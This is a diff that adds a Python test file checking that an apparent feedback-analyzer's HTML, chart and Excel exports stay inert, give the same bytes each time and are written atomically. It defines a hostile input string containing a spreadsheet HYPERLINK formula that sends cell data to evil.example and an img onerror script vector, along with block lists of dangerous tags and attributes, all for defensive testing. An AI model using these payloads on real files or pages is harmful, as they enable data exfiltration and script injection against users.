@@ -1,0 +1,148 @@
+"""Answers as files: self-contained, inert, the same bytes each time."""
+
+import io
+import re
+import zipfile
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from openpyxl import load_workbook
+
+from analyzer.answer_records import Answer, Citation, Claim, Count, Number, Plan, Row, Status, Table, Task
+from analyzer.errors import UsageError
+from analyzer.exports.answer_html import answer_html
+from analyzer.exports.answer_sheets import answer_sheets
+from analyzer.exports.method import Method
+from analyzer.exports.pictures import picture
+from analyzer.exports.workbook import FORMULA, safe_text, workbook_bytes
+from analyzer.exports.written import write_whole
+from analyzer.records import Hit
+
+HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1) <img src=http://evil.example/x onerror=alert(1)> ![x](http://evil.example)'
+METHOD = Method(
+    "shop", "feedback-analyzer 0.1.0", "2026-11-25T10:00+00:00", 40, "2024-01-01 to 2024-05-01", (("m", "abc"),)
+)
+QUOTE = Citation("C-1", HOSTILE[:20], 0, 20)
+NUMBERS = (
+    Number(12, 40, "count 'late' where all", "yes"), Number(0.3, 40, "count", "share", "", 0.2, 0.4, "PPI++"),
+    Number(0.5, 40, "points", "row_0_share"),
+)  # fmt: skip
+TABLE = Table(
+    "share of comments", "share", "month", (Row("2024-01", 0.2, 9, "", 0.1, 0.3), Row(HOSTILE, 0.4, 8)), "q", "PPI++"
+)
+
+
+def made(text=HOSTILE, question="What about <b>late</b> parcels?", table=TABLE):
+    cited = (Citation("C-1", text[:20], 0, min(20, len(text))),)
+    claim = Claim("People say the parcel came late.", cited, opposed=(QUOTE,), number="row_0_share")
+    answer = Answer(
+        Status.ANSWERED, "12 of 40 comments.\nPeople say the parcel came late. [1]", (claim,), NUMBERS, "a-1",
+        Plan(Task.TREND, text[:30], "rating<=2", "date", "month", notes=(text[:30],)), table,
+        Count("late", "", 0.3, 0.2, 0.4, 40, 25, "corrected by labels (PPI++)", True),
+        (Hit("C-1", 1.0, text, {"channel": text[:40], "rating": 2}),), 1, {"no comment supports it": 1},
+    )  # fmt: skip
+    return question, answer, METHOD
+
+
+class Page(HTMLParser):
+    """Collects what a page would do."""
+
+    def __init__(self, html):
+        super().__init__()
+        self.tags, self.attributes = [], []
+        self.feed(html)
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append(tag)
+        self.attributes += [(tag, name, value or "") for name, value in attrs]
+
+
+@given(st.text(min_size=1, max_size=300) | st.just(HOSTILE))
+def test_a_page_fetches_nothing_runs_nothing_and_shows_text_as_text(text):
+    page = Page(answer_html(*made(text, question=text)))
+    assert not {"script", "img", "link", "iframe", "object", "form", "base", "audio", "video"} & set(page.tags)
+    for tag, name, value in page.attributes:
+        assert not name.startswith("on"), (tag, name)
+        assert name not in ("src", "action", "srcset", "background", "xlink:href")
+        assert name != "href" or re.fullmatch(r"#c\d+", value)
+    assert ("meta", "content", "default-src 'none'; style-src 'unsafe-inline'") in page.attributes
+
+
+def test_a_page_says_everything_the_answer_stands_on():
+    html = answer_html(*made())
+    for told in ("12 of 40 comments.", "People say the parcel came late.", "count &#x27;late&#x27; where all", "a-1",
+                 "rating&lt;=2", "no comment supports it", "say the opposite", "<mark>", "abc",
+                 "scrubbed of personal data"):  # fmt: skip
+        assert told in html, told
+
+
+def test_a_chart_has_a_line_for_periods_bars_for_groups_and_nothing_for_one_row():
+    assert "<polyline" in picture(TABLE)
+    bars = Table("t", "comments", "Region", (Row("<b>", 3, 9), Row("b", 2, 9)), "q")
+    assert picture(bars).count("<rect") == 2
+    assert "&lt;b&gt;" in picture(bars)
+    assert picture(Table("t", "comments", "", (Row("a", 3, 9),), "q")) == ""
+
+
+def sheets_of(content):
+    return load_workbook(io.BytesIO(content))
+
+
+def test_a_workbook_holds_answer_figures_table_verbatims_and_method():
+    book = sheets_of(workbook_bytes(answer_sheets(*made())))
+    assert book.sheetnames == ["Answer", "Figures", "Table", "Verbatims", "Method"]
+    verbatims = list(book["Verbatims"].values)
+    assert verbatims[0][:8] == ("number", "id", "quote", "start", "end", "sentence", "comment", "channel")
+    assert verbatims[1][6] == HOSTILE
+    assert verbatims[2][5].startswith("opposite of: ")
+
+
+@given(st.sampled_from(FORMULA), st.text(max_size=40))
+def test_no_cell_is_a_formula_or_a_link(start, rest):
+    text = start + rest
+    content = workbook_bytes([("Sheet", ("a",), [(text,), (HOSTILE,)])])
+    with zipfile.ZipFile(io.BytesIO(content)) as parts:
+        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
+        assert "<f>" not in sheet
+        assert "<hyperlink" not in sheet
+        assert not [name for name in parts.namelist() if "external" in name.lower()]
+    cell = sheets_of(content)["Sheet"]["A3"]
+    assert (cell.value, cell.data_type, cell.quotePrefix) == (HOSTILE, "s", True)
+
+
+def test_the_same_answer_gives_the_same_bytes():
+    assert workbook_bytes(answer_sheets(*made())) == workbook_bytes(answer_sheets(*made()))
+    assert answer_html(*made()) == answer_html(*made())
+
+
+def test_what_no_cell_can_hold_is_left_out_or_cut():
+    assert safe_text("a\x00b\x1fc") == "abc"
+    assert safe_text("x" * 40_000).endswith("… (cut)")
+    workbook_bytes([("Sheet", ("a",), [("x\x0b" * 40_000,), (None,), (3,)])])
+
+
+def test_a_file_is_written_whole_privately_and_never_over_another(tmp_path):
+    out = tmp_path / "answer.html"
+    digest = write_whole(out, b"one")
+    assert out.read_bytes() == b"one"
+    assert out.stat().st_mode & 0o777 == 0o600
+    with pytest.raises(UsageError, match="--replace"):
+        write_whole(out, b"two")
+    assert write_whole(out, b"two", may_replace=True) != digest
+    assert [path.name for path in tmp_path.iterdir()] == ["answer.html"]
+
+
+def test_a_write_that_fails_leaves_the_file_before(tmp_path, monkeypatch):
+    out = tmp_path / "answer.html"
+    write_whole(out, b"one")
+
+    def full(*_):
+        raise OSError("no space")
+
+    monkeypatch.setattr("os.fsync", full)
+    with pytest.raises(OSError, match="no space"):
+        write_whole(out, b"two", may_replace=True)
+    assert out.read_bytes() == b"one"
+    assert len(list(tmp_path.iterdir())) == 1
